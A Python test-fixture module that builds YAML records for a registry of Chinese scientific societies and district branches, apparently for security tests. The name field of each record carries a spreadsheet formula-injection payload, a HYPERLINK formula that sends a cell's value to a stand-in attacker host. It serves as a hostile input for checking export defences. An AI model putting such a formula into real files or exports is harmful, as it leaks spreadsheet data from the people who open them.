"""Hostile records shared by the security tests (issue 9)."""

from __future__ import annotations

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


def society(record_id: str = "ceshi-xuehui", name: str = "测试市测试学会", started: str = "2020-01-01") -> str:
    """A society whose term (5 years from ``started``) ended before 2026-11-23: due-elections lists it."""
    return f"""\
id: {record_id}
kind: society
name: {name}
status: active
founded: 2000-01-01
level: municipal
discipline: science
registration: {{uscc: 51369900505374438P}}
term: {{number: 1, started: {started}, years: 5}}
leaders:
  - {{role: chair, name: 张三, since: {started}}}
  - {{role: secretary-general, name: 李四, since: {started}}}
"""


def district(record_id: str = "ceshi-qu-kexie", name: str = "测试区科协") -> str:
    return f"""\
id: {record_id}
kind: branch
name: {name}
status: active
founded: 2000-01-01
type: district
"""


def quoted(text: str) -> str:
    """``text`` as a single-quoted YAML scalar."""
    return "'" + text.replace("'", "''") + "'"


FORMULA_FILES: dict[str, str | bytes] = {
    "records/societies/ceshi-xuehui.yaml": society(name=quoted(FORMULA)),
    "records/branches/ceshi-qu-kexie.yaml": district(name=quoted(FORMULA)),
}
